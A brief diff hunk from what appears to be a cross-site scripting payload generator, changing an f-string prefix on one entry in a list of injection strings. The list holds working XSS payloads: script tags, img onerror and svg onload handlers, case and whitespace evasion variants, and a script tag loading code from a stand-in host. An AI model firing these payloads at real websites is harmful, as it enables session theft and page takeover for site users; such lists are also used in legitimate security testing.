@@ -17,7 +17,7 @@ CLOSERS = ("", '">', "'>", "</title>", "</textarea>", "</script>", "</select></f
 ELEMENTS = (
     f"<script>{ACT}</script>",
     f"<ScRiPt>{ACT}</sCrIpT >",
-    f"<script src=//zq7.example/x.js></script>",
+    "<script src=//zq7.example/x.js></script>",
     f"<img src=zq7 onerror={ACT}>",
     f"<img/src=zq7\tonerror\n=\r{ACT}>",
     f"<svg onload={ACT}>",
